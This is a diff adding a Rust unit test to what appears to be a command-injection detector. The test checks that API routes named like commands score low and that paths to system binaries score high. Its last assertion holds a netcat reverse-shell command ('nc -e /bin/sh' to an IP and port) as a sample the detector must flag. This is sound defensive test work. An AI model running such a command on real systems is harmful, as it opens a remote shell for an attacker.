@@ -803,3 +803,35 @@ fn cmdi_a_command_name_split_by_quote_pairs_scores_high() {
         assert!(s(p) < 5, "{p} scored {}", s(p));
     }
 }
+
+/// A URL path whose last segment is a command's name is a route
+/// (`/api/v1/ping`, `/users/find`, `/cgi-bin/test`); a path into a directory
+/// of programs still names the program.
+#[test]
+fn cmdi_routes_named_like_commands_pass() {
+    let path = |v: &str| {
+        let mut h = Hits::default();
+        scan(v.as_bytes(), Field::Path, &mut h);
+        h.score(Class::Cmdi)
+    };
+    for v in [
+        "/api/v1/ping",
+        "/api/v1/users/find",
+        "/api/v1/users/id",
+        "/health/env",
+        "/cgi-bin/test",
+        "/reports/diff",
+    ] {
+        assert!(path(v) < 5, "{v} scored {}", path(v));
+    }
+    for v in [
+        "/bin/cat",
+        "/usr/bin/id",
+        "/usr/local/sbin/nc",
+        "/c:/windows/system32/cmd.exe",
+    ] {
+        assert!(path(v) >= 5, "{v} scored {}", path(v));
+    }
+    // in a value, a command with any directory is still a command
+    assert!(s("/opt/tools/nc -e /bin/sh 10.0.0.1 4444") >= 5);
+}
